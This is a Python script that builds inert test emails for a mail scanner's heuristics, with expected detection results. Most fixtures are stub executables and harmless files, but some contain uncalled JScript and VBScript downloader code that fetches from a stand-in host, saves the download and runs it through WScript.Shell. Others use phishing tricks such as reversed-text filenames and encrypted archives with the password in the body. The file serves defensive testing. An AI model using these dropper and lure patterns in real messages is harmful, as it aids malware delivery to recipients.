#!/usr/bin/env python3
"""make-heur-samples.py OUTDIR - harmless look-alikes for policies/heuristics.yaml,
campaigns/others.yaml and the containers only libarchive opens (tests/heuristics.sh).

    OUTDIR/*.eml       one message per case
    OUTDIR/expect.tsv  FILE <TAB> hit|miss <TAB> RULE_ID: "mailvet scan --json" lists
                       (hit) or does not list (miss) a hit of RULE_ID
    OUTDIR/show.tsv    FILE <TAB> TEXT: the text report of "mailvet scan" (what an
                       operator reads) holds TEXT, such as the name an archive's header
                       keeps, a reason, or "action=quarantine"
    OUTDIR/score.tsv   FILE <TAB> min|max <TAB> N: the message's score is at least /
                       below N

Containers are written here byte by byte where Debian has no tool that writes them
(gzip with its original name: the gzip module; LHA level 0, 1 and 2 headers with the
stored method -lh0-: no Debian package creates LHA archives; compress(1) ".Z": a
9-bit LZW coder below), or with 7z (p7zip-full) for 7z with and without encrypted
headers, and zstd, lz4, xz for their streams.  Everything is inert: executables are
stubs (magic bytes and zeros), scripts are comments or never-called functions, names
are example.com / .invalid, every file carries INERT-TEST-FIXTURE.  Python 3 standard
library only, plus the tools named.  Deterministic: fixed dates and timestamps.
"""
import email.message
import email.policy
import gzip
import io
import os
import shutil
import struct
import subprocess
import sys
import zipfile
import zlib

MARK = b"INERT-TEST-FIXTURE"
PE = b"MZ" + b"\0" * 58 + (64).to_bytes(4, "little") + b"PE\0\0" + b"\0" * 188 + MARK + b"\0" * 64
PDF = (b"%PDF-1.4\n% " + MARK + b"\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
       b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
JS_COMMENT = b"// " + MARK + b": comments only, nothing runs\n"

out = sys.argv[1]
os.makedirs(out, exist_ok=True)
tmp = os.path.join(out, ".tmp")
shutil.rmtree(tmp, ignore_errors=True)
os.makedirs(tmp)
expect, show, score = [], [], []
seq = [0]


def mail(fn, subject, body, attachments):
    """one message; ATTACHMENTS: (name, bytes, maintype/subtype)"""
    m = email.message.EmailMessage()
    seq[0] += 1
    m["From"] = "Sender <sender@example.com>"
    m["To"] = "rcpt@example.net"
    m["Subject"] = subject
    m["Date"] = "Mon, 01 Jun 2020 10:%02d:00 +0000" % (seq[0] % 60)
    m["Message-ID"] = "<heur-%03d@example.com>" % seq[0]
    m.set_content(body + "\n\n-- \n" + MARK.decode() + "\n")
    for name, data, ctype in attachments:
        main, sub = ctype.split("/")
        m.add_attachment(data, maintype=main, subtype=sub, filename=name)
    with open(os.path.join(out, fn), "wb") as f:
        f.write(m.as_bytes(policy=email.policy.SMTP))


def hit(fn, *rules):
    expect.extend("%s\thit\t%s" % (fn, r) for r in rules)


def miss(fn, *rules):
    expect.extend("%s\tmiss\t%s" % (fn, r) for r in rules)


def shows(fn, *texts):
    show.extend("%s\t%s" % (fn, t) for t in texts)


def tool(*argv, cwd=None):
    subprocess.run(argv, check=True, cwd=cwd, stdout=subprocess.PIPE, stderr=subprocess.PIPE)


# --- containers written here -------------------------------------------------------

def gz(name, data):
    """gzip with the original name in its header (FNAME)"""
    b = io.BytesIO()
    with gzip.GzipFile(filename=name, mode="wb", fileobj=b, mtime=0) as g:
        g.write(data)
    return b.getvalue()


def crc16(data):
    """CRC-16/ARC, LHA's data checksum"""
    crc = 0
    for c in data:
        crc ^= c
        for _ in range(8):
            crc = (crc >> 1) ^ 0xA001 if crc & 1 else crc >> 1
    return crc


def lha(name, data, level):
    """one member stored (-lh0-) under an LHA header of LEVEL 0, 1 or 2, then the end"""
    nm = name.encode()
    crc = crc16(data)
    if level == 0:
        h = (b"-lh0-" + struct.pack("<IIIBB", len(data), len(data), 0x50210000, 0x20, 0)
             + bytes([len(nm)]) + nm + struct.pack("<H", crc))
        return bytes([len(h), sum(h) & 0xFF]) + h + data + b"\0"
    if level == 1:
        # the name in the base header; one extended header would follow, none here
        h = (b"-lh0-" + struct.pack("<IIIBB", len(data), len(data), 0x50210000, 0x20, 1)
             + bytes([len(nm)]) + nm + struct.pack("<HBH", crc, ord("U"), 0))
        return bytes([len(h), sum(h) & 0xFF]) + h + data + b"\0"
    # level 2: the total size comes first; then extended headers, each its type, its
    # data and the size of the next one (0: none): the header's CRC-16 (type 0,
    # computed over the whole header with the field zero), then the name (type 1)
    name_ext = b"\x01" + nm + struct.pack("<H", 0)
    crc_ext = b"\x00\x00\x00" + struct.pack("<H", len(name_ext))
    h = (b"-lh0-" + struct.pack("<IIIBB", len(data), len(data), 0, 0x20, 2)
         + struct.pack("<HB", crc, ord("U")))
    h += struct.pack("<H", len(crc_ext)) + crc_ext + name_ext
    h = bytearray(struct.pack("<H", 2 + len(h)) + h)
    at = 24 + 2 + 1
    h[at:at + 2] = struct.pack("<H", crc16(bytes(h)))
    return bytes(h) + data + b"\0"


def compress_z(data):
    """compress(1) .Z, 9-bit codes, no block mode: the code table fills at 512 entries
    and then stays as it is, so every code is 9 bits"""
    table = {bytes([i]): i for i in range(256)}
    nxt, codes, w = 256, [], b""
    for c in data:
        wc = w + bytes([c])
        if wc in table:
            w = wc
            continue
        codes.append(table[w])
        if nxt < 512:
            table[wc] = nxt
            nxt += 1
        w = bytes([c])
    if w:
        codes.append(table[w])
    bits = nbits = 0
    body = bytearray()
    for code in codes:
        bits |= code << nbits
        nbits += 9
        while nbits >= 8:
            body.append(bits & 0xFF)
            bits >>= 8
            nbits -= 8
    if nbits:
        body.append(bits & 0xFF)
    return b"\x1f\x9d\x09" + bytes(body)


def zipped(members):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            zi = zipfile.ZipInfo(name, date_time=(2020, 6, 1, 10, 0, 0))
            z.writestr(zi, data, zipfile.ZIP_DEFLATED)
    return b.getvalue()


def sevenzip(name, members, password=None, encrypt_headers=False):
    d = os.path.join(tmp, name + ".d")
    os.makedirs(d)
    for n, data in members:
        with open(os.path.join(d, n), "wb") as f:
            f.write(data)
        os.utime(os.path.join(d, n), (1591005600, 1591005600))
    argv = ["7z", "a", "-bd", "-y", os.path.join(tmp, name)]
    if password:
        argv.append("-p" + password)
        argv.append("-mhe=" + ("on" if encrypt_headers else "off"))
    tool(*argv, *[n for n, _ in members], cwd=d)
    with open(os.path.join(tmp, name), "rb") as f:
        return f.read()


def stream(toolname, data, *opts):
    return subprocess.run([toolname, *opts, "-c"], input=data, check=True,
                          stdout=subprocess.PIPE).stdout


OCT = "application/octet-stream"

# --- 1. names an archive header keeps ------------------------------------------------
# the attachment's name says nothing; the gzip header's FNAME is the Avaddon name,
# and the content is a comment: only a rule on the name can see it
mail("gz-fname.eml", "Is this your photo?", ";)",
     [("photo.gz", gz("IMG123456.jpg.js", JS_COMMENT), OCT)])
hit("gz-fname.eml", "AVADDON_IMG_JS_NAME", "DOUBLE_EXTENSION", "EXEC_IN_ARCHIVE")
shows("gz-fname.eml", "IMG123456.jpg.js  [")
# no FNAME (gzip -n): the name without .gz, as gunzip would
b = io.BytesIO()
with gzip.GzipFile(filename="", mode="wb", fileobj=b, mtime=0) as g:
    g.write(JS_COMMENT)
mail("gz-noname.eml", "logs", "the logs", [("Invoice_8841.pdf.js.gz", b.getvalue(), OCT)])
hit("gz-noname.eml", "DOUBLE_EXTENSION")
shows("gz-noname.eml", "Invoice_8841.pdf.js  [")
# a header with an extra field before the name, a Windows path and ISO 8859-1 (as
# RFC 1952 says the name is): the last component, as UTF-8
raw = zlib.compressobj(9, zlib.DEFLATED, -15)
body = raw.compress(PE) + raw.flush()
fname = "C:\\Temp\\Rechnung_M\u00e4rz.pdf.exe".encode("latin-1")
extra = b"AP\x02\x00xy"
gz_extra = (b"\x1f\x8b\x08\x0c" + b"\0\0\0\0" + b"\x00\x03" + struct.pack("<H", len(extra)) + extra
            + fname + b"\0" + body + struct.pack("<II", zlib.crc32(PE), len(PE)))
mail("gz-extra-latin1.eml", "Rechnung", "Anbei.", [("Rechnung.gz", gz_extra, OCT)])
hit("gz-extra-latin1.eml", "DOUBLE_EXTENSION")
# the text report writes bytes outside ASCII in octal: \303\244 is UTF-8 for the a-umlaut
shows("gz-extra-latin1.eml", "Rechnung_M\\303\\244rz.pdf.exe  [CL_TYPE_MSEXE")

# an ordinary compressed log keeps its name and scores nothing
mail("gz-ham.eml", "nightly logs", "attached",
     [("app.log.gz", gz("app.log", b"2020-06-01 INFO started " + MARK + b"\n"), OCT)])
miss("gz-ham.eml", "DOUBLE_EXTENSION", "EXEC_IN_ARCHIVE")
shows("gz-ham.eml", "app.log  [", "action=accept")

# --- 2. containers libarchive reads and libclamav does not ---------------------------
for level in (0, 1, 2):
    fn = "lzh-level%d.eml" % level
    mail(fn, "Purchase order 4500012345", "Please see the attached order.",
         [("PO_4500012345.lzh", lha("PO_4500012345.exe", PE, level), OCT)])
    hit(fn, "EXEC_IN_ARCHIVE", "EXECUTABLE_PRESENT", "RARE_ARCHIVE_FORMAT",
        "NEGASTEAL_ARCHIVE_EXECUTABLE")
    miss(fn, "UNPARSEABLE_ARCHIVE")
    shows(fn, "MV_TYPE_LHA", "PO_4500012345.exe  [CL_TYPE_MSEXE", "action=reject")
# two members: tests/heuristics.sh scans it again with max_files: 1
first = lha("notes.txt", b"notes " + MARK + b"\n", 1)[:-1]
two = first + lha("PO_4500012346.exe", PE, 1)
mail("lzh-two.eml", "notes", "two files", [("notes.lzh", two, OCT)])
hit("lzh-two.eml", "EXEC_IN_ARCHIVE")
shows("lzh-two.eml", "notes.txt  [", "PO_4500012346.exe  [CL_TYPE_MSEXE")
# damaged in its second header: what follows the first member is unknown
mail("lzh-damaged.eml", "notes", "two files", [("notes.lzh", two[:len(first) + 12], OCT)])
shows("lzh-damaged.eml", "Mailvet.Unscannable.Unreadable", "action=quarantine")
mail("lzh-ham.eml", "Tabellen", "Anbei die Tabellen.",
     [("tabellen.lzh", lha("tabellen.csv", b"a;b\n1;2\n# " + MARK + b"\n", 1), OCT)])
miss("lzh-ham.eml", "EXEC_IN_ARCHIVE", "UNPARSEABLE_ARCHIVE")
shows("lzh-ham.eml", "tabellen.csv  [")
score.append("lzh-ham.eml\tmax\t5")

for ext, data in (("zst", stream("zstd", PE, "-q")), ("lz4", stream("lz4", PE, "-q")),
                  ("lzma", stream("xz", PE, "--format=lzma")), ("Z", compress_z(PE))):
    fn = "stream-%s.eml" % ext.lower()
    mail(fn, "documents", "see attached", [("RFQ_2024-117.exe." + ext, data, OCT)])
    hit(fn, "EXEC_IN_ARCHIVE", "EXECUTABLE_PRESENT")
    miss(fn, "UNPARSEABLE_ARCHIVE")
    shows(fn, "RFQ_2024-117.exe  [CL_TYPE_MSEXE")

# a stream declares no size: 2 MiB of zeros in 70 bytes is cut at the ratio limit
mail("stream-bomb.eml", "data", "see attached",
     [("zeros.bin.zst", stream("zstd", b"\0" * (2 << 20) + MARK, "-q", "-19"), OCT)])
shows("stream-bomb.eml", "Mailvet.Limits.CompressionRatio", "action=quarantine")

# lzop: nothing here reads it (libarchive would run the lzop program)
mail("stream-lzo.eml", "Shipping documents", "Shipping documents attached.",
     [("Shipping_Documents.lzo",
       b"\x89LZO\0\r\n\x1a\n" + b"\x10\x40\x20\xa0\x09\x40" + b"\0" * 40 + MARK, OCT)])
hit("stream-lzo.eml", "UNPARSEABLE_ARCHIVE", "CLOSED_CONTAINER_LURE")
shows("stream-lzo.eml", "Mailvet.Unscannable.LZOP")

# --- 3. encrypted 7z -----------------------------------------------------------------
rfq = [("RFQ_2024-117.exe", PE), ("readme.txt", b"readme " + MARK + b"\n")]
mail("7z-enc-listed.eml", "Documents", "The archive password: Fixture123",
     [("docs.7z", sevenzip("listed.7z", rfq, "Fixture123"), "application/x-7z-compressed")])
hit("7z-enc-listed.eml", "EXEC_IN_ARCHIVE", "ENCRYPTED_ARCHIVE", "PASSWORD_IN_BODY",
    "CLOSED_CONTAINER_LURE")
miss("7z-enc-listed.eml", "ENCRYPTED_UNLISTABLE")
# the names, listed though the data stays closed, are enough for a campaign verdict
shows("7z-enc-listed.eml", "RFQ_2024-117.exe  [", "encrypted]", "action=reject")

hdr = sevenzip("hidden.7z", rfq, "Fixture123", encrypt_headers=True)
mail("7z-enc-headers-pw.eml", "Documents", "The archive password: Fixture123",
     [("docs.7z", hdr, "application/x-7z-compressed")])
hit("7z-enc-headers-pw.eml", "ENCRYPTED_UNLISTABLE", "ENCRYPTED_ARCHIVE", "PASSWORD_IN_BODY",
    "CLOSED_CONTAINER_LURE")
shows("7z-enc-headers-pw.eml", "Mailvet.Unscannable.Unlistable", "action=quarantine")
score.append("7z-enc-headers-pw.eml\tmin\t10")
mail("7z-enc-headers-lure.eml", "Rechnung 2020-117", "Anbei die Rechnung.",
     [("Rechnung.7z", hdr, "application/x-7z-compressed")])
hit("7z-enc-headers-lure.eml", "ENCRYPTED_UNLISTABLE", "BUSINESS_LURE", "CLOSED_CONTAINER_LURE")
score.append("7z-enc-headers-lure.eml\tmin\t10")
mail("7z-enc-headers-bare.eml", "backup", "the backup, as agreed",
     [("backup.7z", hdr, "application/x-7z-compressed")])
hit("7z-enc-headers-bare.eml", "ENCRYPTED_UNLISTABLE")
miss("7z-enc-headers-bare.eml", "CLOSED_CONTAINER_LURE", "PASSWORD_IN_BODY")
shows("7z-enc-headers-bare.eml", "Mailvet.Unscannable.Unlistable")
score.append("7z-enc-headers-bare.eml\tmax\t10")

# ACE with a shipping lure: nothing opens it
ace = b"\0" * 7 + b"**ACE**" + b"\0" * 16 + b"Shipping_Documents.pdf" + b"\0" * 32 + MARK
mail("ace-lure.eml", "Shipping documents / bill of lading", "Please check the shipping documents.",
     [("Shipping_Documents.ace", ace, OCT)])
hit("ace-lure.eml", "UNPARSEABLE_ARCHIVE", "RARE_ARCHIVE_FORMAT", "CLOSED_CONTAINER_LURE")
score.append("ace-lure.eml\tmin\t10")

# --- 4a. lure words in 13 languages: two business events each -------------------------
LURES = [
    ("en", "Invoice INV-2020-117 overdue", "Shipment notice: your parcel is on its way"),
    ("de", "Rechnung Nr. 2020-117", "Lieferschein und Versandbestätigung"),
    ("fr", "Facture n° 2020-117", "Avis de paiement et bon de commande"),
    ("es", "Factura 2020-117 pendiente", "Comprobante de pago y orden de compra"),
    ("it", "Fattura n. 2020-117", "Avviso di pagamento e ricevuta di bonifico"),
    ("pt", "Fatura 2020-117 em aberto", "Comprovante de transferência e pedido de compra"),
    ("nl", "Factuur 2020-117", "Betalingsbewijs en bestelling"),
    ("pl", "Faktura VAT 2020/117", "Potwierdzenie przelewu i zamówienie"),
    ("tr", "Fatura 2020-117", "Ödeme dekontu ve sipariş"),
    ("ja", "請求書送付のご案内", "出荷のお知らせ／納品書"),
    ("zh", "发票 2020-117", "付款通知及采购订单"),
    ("ru", "Счёт на оплату № 117", "Накладная и выписка по счёту"),
    ("ar", "فاتورة رقم 117", "إشعار الشحن وكشف حساب"),
]
for lang, s1, s2 in LURES:
    for k, subj in enumerate((s1, s2)):
        fn = "lure-%s-%d.eml" % (lang, k + 1)
        mail(fn, subj, "-", [])
        hit(fn, "BUSINESS_LURE")
        miss(fn, "CLOSED_CONTAINER_LURE")
# ordinary words in the same languages: no lure
for lang, subj in (("en", "Border crossing in order to meet"), ("de", "Treffen am Montag"),
                   ("fr", "Réunion de lundi"), ("ja", "会議の議事録"), ("ru", "Расчёты по проекту"),
                   ("ar", "اجتماع يوم الاثنين")):
    fn = "nolure-%s.eml" % lang
    mail(fn, subj, "-", [])
    miss(fn, "BUSINESS_LURE")
mail("lure-photo-de.eml", "Schau mal, ein Foto von dir", "-", [])
hit("lure-photo-de.eml", "PHOTO_LURE")

# --- 4b. bidirectional text in names -------------------------------------------------
mail("bidi-rlo.eml", "invoice", "see attached", [("invoice\u202efdp.exe", PE, OCT)])
hit("bidi-rlo.eml", "BIDI_FILENAME")
mail("bidi-rlo-js.eml", "photo", "see attached", [("photo\u202egnp.js", JS_COMMENT, OCT)])
hit("bidi-rlo-js.eml", "BIDI_FILENAME")
mail("bidi-hebrew-rle.eml", "מסמך", "מצורף", [("\u202bק.pdf\u202c", PDF, "application/pdf")])
miss("bidi-hebrew-rle.eml", "BIDI_FILENAME", "BIDI_MARK_EXECUTABLE")
score.append("bidi-hebrew-rle.eml\tmax\t5")
mail("bidi-arabic-rlm.eml", "تقرير", "مرفق",
     [("\u062a\u0642\u0631\u064a\u0631\u200f.pdf", PDF, "application/pdf")])
miss("bidi-arabic-rlm.eml", "BIDI_FILENAME", "BIDI_MARK_EXECUTABLE")
mail("bidi-arabic-alm.eml", "تقرير", "مرفق",
     [("\u062a\u0642\u0631\u064a\u0631\u061c 2020.pdf", PDF, "application/pdf")])
miss("bidi-arabic-alm.eml", "BIDI_FILENAME")
mail("bidi-mark-exe.eml", "tool", "attached", [("\u202bsetup\u202c.exe", PE, OCT)])
hit("bidi-mark-exe.eml", "BIDI_MARK_EXECUTABLE")
miss("bidi-mark-exe.eml", "BIDI_FILENAME")

# --- 4c. scripts: a web page's fallback against a downloader ---------------------------
webdev = (b"/* " + MARK + b": the usual XMLHttpRequest fallback for old Internet Explorer */\n"
          b"function createRequest() {\n"
          b"  if (window.XMLHttpRequest) { return new XMLHttpRequest(); }\n"
          b"  try { return new ActiveXObject(\"MSXML2.XMLHTTP\"); } catch (e) {}\n"
          b"  try { return new ActiveXObject(\"Microsoft.XMLHTTP\"); } catch (e) {}\n"
          b"  return null;\n}\n"
          b"function load(url, done) {\n"
          b"  var r = createRequest(); r.open(\"GET\", url, true);\n"
          b"  r.onreadystatechange = function () { if (r.readyState === 4) done(r.responseText); };\n"
          b"  r.send(null);\n}\n")
site = zipped([("site/index.html", b"<html><body>" + MARK + b"<script src=app.js></script></body></html>"),
               ("site/app.js", webdev), ("site/style.css", b"body{margin:0}"),
               ("site/lib.js", b"// " + MARK + b"\nfunction noop(){}\n")])
mail("script-webdev.eml", "site sources", "the site, as discussed", [("site.zip", site, "application/zip")])
miss("script-webdev.eml", "SCRIPT_DOWNLOADER_STRINGS", "EXEC_IN_ARCHIVE")
score.append("script-webdev.eml\tmax\t5")
# fetch, save to the temp folder and run: never called, but the calls are there
dropper = (b"// " + MARK + b": inert, the function is never called\n"
           b"function never() {\n"
           b"  var x = new ActiveXObject(\"MSXML2.XMLHTTP\"); x.open(\"GET\", \"http://payload.example.invalid/f.bin\", false);\n"
           b"  var s = new ActiveXObject(\"ADODB.Stream\"); s.Type = 1; s.Open(); s.Write(x.responseBody);\n"
           b"  s.SaveToFile(\"fixture.bin\", 2);\n"
           b"  new ActiveXObject(\"WScript.Shell\").Run(\"fixture.bin\");\n}\n")
mail("script-dropper.eml", "invoice", "see attached",
     [("invoice.zip", zipped([("invoice.js", dropper)]), "application/zip")])
hit("script-dropper.eml", "SCRIPT_DOWNLOADER_STRINGS", "EXEC_IN_ARCHIVE")
vbs = (b"' " + MARK + b": inert, never called\nSub Never()\n"
       b"  Set h = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\n"
       b"  CreateObject(\"WScript.Shell\").Exec \"cmd.exe /c fixture\"\nEnd Sub\n")
mail("script-vbs.eml", "scan", "see attached",
     [("scan.zip", zipped([("scan_0117.vbs", vbs)]), "application/zip")])
hit("script-vbs.eml", "SCRIPT_DOWNLOADER_STRINGS")

packed = (b"// " + MARK + b": inert, never called\nfunction never() { var c = [47, 47];\n"
          b"  eval(String.fromCharCode.apply(null, c)); }\n")
mail("script-packed.eml", "scan", "see attached",
     [("scan.zip", zipped([("scan_0118.js", packed)]), "application/zip")])
hit("script-packed.eml", "SCRIPT_OBFUSCATED")
miss("script-webdev.eml", "SCRIPT_OBFUSCATED")

# --- 5. campaigns.md heuristics not in policies/ before -------------------------------
# a JPEG's first bytes under a name Windows runs
jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + MARK + b"\0" * 64 + b"\xff\xd9"
mail("image-named-exe.eml", "photo", "see attached", [("holiday.scr", jpeg, OCT)])
hit("image-named-exe.eml", "EXEC_NAME_IMAGE_CONTENT")
mail("image-named-jpg.eml", "photo", "see attached", [("holiday.jpg", jpeg, "image/jpeg")])
miss("image-named-jpg.eml", "EXEC_NAME_IMAGE_CONTENT")

CT = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
      b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
      b'<Default Extension="xml" ContentType="application/xml"/>'
      b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
      b'</Types>')
RELS = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
        b'</Relationships>')


def docx(text, doc_rels=None, settings_rels=None):
    doc = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
           b'<w:body><w:p><w:r><w:t>' + text + b' ' + MARK + b'</w:t></w:r></w:p></w:body></w:document>')
    members = [("[Content_Types].xml", CT), ("_rels/.rels", RELS), ("word/document.xml", doc)]
    if doc_rels:
        members.append(("word/_rels/document.xml.rels", doc_rels))
    if settings_rels:
        members.append(("word/settings.xml", b'<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:attachedTemplate r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></w:settings>'))
        members.append(("word/_rels/settings.xml.rels", settings_rels))
    return zipped(members)


def rels(rtype, target, mode=b' TargetMode="External"'):
    return (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            + rtype + b'" Target="' + target + b'"' + mode + b'/></Relationships>')


DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
mail("office-remote-template.eml", "Contract", "please review",
     [("contract.docx", docx(b"Contract", settings_rels=rels(b"attachedTemplate", b"http://template.example.invalid/t.dotm")), DOCX)])
hit("office-remote-template.eml", "OFFICE_EXTERNAL_OBJECT")
mail("office-unc-ole.eml", "Report", "please review",
     [("report.docx", docx(b"Report", doc_rels=rels(b"oleObject", b"\\\\files.example.invalid\\share\\o.bin")), DOCX)])
hit("office-unc-ole.eml", "OFFICE_EXTERNAL_OBJECT")
mail("office-hyperlink.eml", "Newsletter", "our newsletter",
     [("newsletter.docx", docx(b"Visit us", doc_rels=rels(b"hyperlink", b"https://www.example.com/")), DOCX)])
miss("office-hyperlink.eml", "OFFICE_EXTERNAL_OBJECT")
mail("office-local-template.eml", "Letter", "a letter",
     [("letter.docx", docx(b"Letter", settings_rels=rels(b"attachedTemplate", b"Normal.dotm", b"")), DOCX)])
miss("office-local-template.eml", "OFFICE_EXTERNAL_OBJECT")
mail("office-enable-content.eml", "Document", "see attached",
     [("doc.docx", docx(b"This document was edited in a different version of Microsoft Office. "
                        b"To view it, click Enable Editing and then Enable Content."), DOCX)])
hit("office-enable-content.eml", "DOC_ENABLE_CONTENT_LURE")
mail("office-plain.eml", "Minutes", "see attached",
     [("minutes.docx", docx(b"Minutes of the meeting. Please enable content filtering on the proxy."), DOCX)])
miss("office-plain.eml", "DOC_ENABLE_CONTENT_LURE", "OFFICE_EXTERNAL_OBJECT")
mail("office-xlsm.eml", "Budget", "the budget sheet",
     [("budget.xlsm", zipped([("[Content_Types].xml", CT)]), OCT)])
hit("office-xlsm.eml", "OFFICE_MACRO_ENABLED_ATTACHMENT")

mail("netwalker.eml", "Coronavirus information", "Please read the attached file.",
     [("CORONAVIRUS_COVID-19.vbs", b"' " + MARK + b"\n", OCT)])
hit("netwalker.eml", "NETWALKER_COVID_SCRIPT")
mail("netwalker-ham.eml", "Coronavirus information", "Please read the attached file.",
     [("COVID-19_guidelines.pdf", PDF, "application/pdf")])
miss("netwalker-ham.eml", "NETWALKER_COVID_SCRIPT")

vba = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64 + "_VBA_PROJECT".encode("utf-16-le")
       + b"\0" * 16 + b"Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\n' " + MARK
       + b"\n' WScript.Shell\nEnd Sub\n")
docm = zipped([("[Content_Types].xml", CT), ("_rels/.rels", RELS),
               ("word/document.xml", b"<w:document/>"), ("word/vbaProject.bin", vba)])
mail("maze-tax.eml", "Agenzia delle Entrate: avviso", "In allegato l'avviso.",
     [("VERDI.docm", docm, OCT)])
hit("maze-tax.eml", "OFFICE_VBA_AUTOEXEC_SHELL", "MACRO_TAX_LURE")
mail("maze-notax.eml", "Quarterly figures", "Attached.", [("figures.docm", docm, OCT)])
miss("maze-notax.eml", "MACRO_TAX_LURE")

mail("revil-customs.eml", "DHL: 荷物の配送に関する問題", "税関書類をご確認ください。",
     [("税関書類.zip", zipped([("税関書類.exe", PE)]), "application/zip")])
hit("revil-customs.eml", "EXEC_IN_ARCHIVE", "COURIER_CUSTOMS_ARCHIVE")
mail("revil-nocourier.eml", "Tools", "the tools", [("tools.zip", zipped([("tool.exe", PE)]), "application/zip")])
miss("revil-nocourier.eml", "COURIER_CUSTOMS_ARCHIVE")

for name, lines in (("expect.tsv", expect), ("show.tsv", show), ("score.tsv", score)):
    with open(os.path.join(out, name), "w", encoding="utf-8") as f:
        f.write("\n".join(lines) + "\n")
shutil.rmtree(tmp)
